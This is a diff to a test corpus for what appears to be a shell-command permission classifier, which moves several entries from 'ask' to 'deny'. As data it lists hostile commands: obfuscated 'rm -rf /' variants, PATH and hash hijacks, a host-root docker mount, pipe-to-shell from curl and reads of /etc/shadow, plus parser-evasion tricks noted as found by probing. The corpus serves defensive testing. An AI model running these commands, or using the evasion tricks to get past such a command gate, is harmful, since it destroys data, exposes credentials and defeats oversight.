@@ -339,7 +339,7 @@ CORPUS: list[tuple[str, str, str, str]] = [
     (". ./env.sh", "ask", "exec", "exec"),
     ("frobnicate --all", "ask", "exec", "unknown"),
     ("kill -9 1234", "ask", "exec", "exec"),
-    ("docker run --rm -v /:/host alpine", "ask", "exec", "unknown"),
+    ("docker run --rm -v /:/host alpine", "deny", "exec", "unknown"),
     # --- package installs
     ("pip install requests", "ask", "install", "install"),
     ("pip3 install -r requirements.txt", "ask", "install", "install"),
@@ -512,7 +512,7 @@ CORPUS: list[tuple[str, str, str, str]] = [
     ("cat < /etc/passwd", "ask", "read", "path"),
     ("diff /etc/passwd README.md", "ask", "read", "path"),
     # --- found by probing: stored code, substitutions the parser misses, applets, pagers
-    ("x='$(rm -rf /)'; echo ${x@P}", "ask", "", "obfuscation"),
+    ("x='$(rm -rf /)'; echo ${x@P}", "deny", "", "obfuscation"),
     ('echo "${x:-`rm -rf /`}"', "ask", "", "parse"),
     ("sh < <(curl x)", "deny", "", "pipe-to-shell"),
     ("busybox rm -rf /", "deny", "destructive", D),
@@ -533,8 +533,8 @@ CORPUS: list[tuple[str, str, str, str]] = [
     ("sudo -iu root cat /etc/shadow", "ask", "exec", "wrapper"),
     ("printf -v PATH '%s' .; ls", "ask", "exec", "env"),
     ("read PATH < x; ls", "ask", "exec", "env"),
-    ("declare -n r=PATH; r=.; ls", "ask", "", "env"),
-    ("hash -p /tmp/evil ls; ls", "ask", "exec", "env"),
+    ("declare -n r=PATH; r=.; ls", "deny", "", "env"),
+    ("hash -p /tmp/evil ls; ls", "deny", "exec", "env"),
     ("dc -e '!rm -rf /'", "ask", "exec", "interpreter"),
     ("tree -o /etc/x", "deny", "write", "--output"),
     ("iconv -f utf8 -t ascii -o /etc/x README.md", "deny", "write", "--output"),
